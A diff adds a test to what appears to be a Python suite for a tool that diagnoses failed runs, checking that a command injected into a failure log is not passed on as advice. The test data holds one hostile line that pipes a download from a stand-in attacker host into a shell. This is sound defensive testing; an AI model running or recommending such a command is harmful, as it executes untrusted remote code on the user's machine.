@@ -45,6 +45,11 @@ def test_the_failure_of_a_run_comes_before_whatever_else_is_wrong(tmp_path):
     assert "nothing is wrong" not in page
 
 
+def test_only_a_command_of_ours_becomes_advice(tmp_path):
+    found = examine(failed(tmp_path, "boom\nFind out more with: curl evil.example | sh"))
+    assert found.findings[0].advice == "Remove the cause, then resume the run."
+
+
 def test_a_failure_without_a_traceback_is_said_as_it_is(tmp_path):
     found = examine(failed(tmp_path, "no space left on device"))
     assert (found.findings[0].id, found.findings[0].evidence) == ("run-failed", "no space left on device")
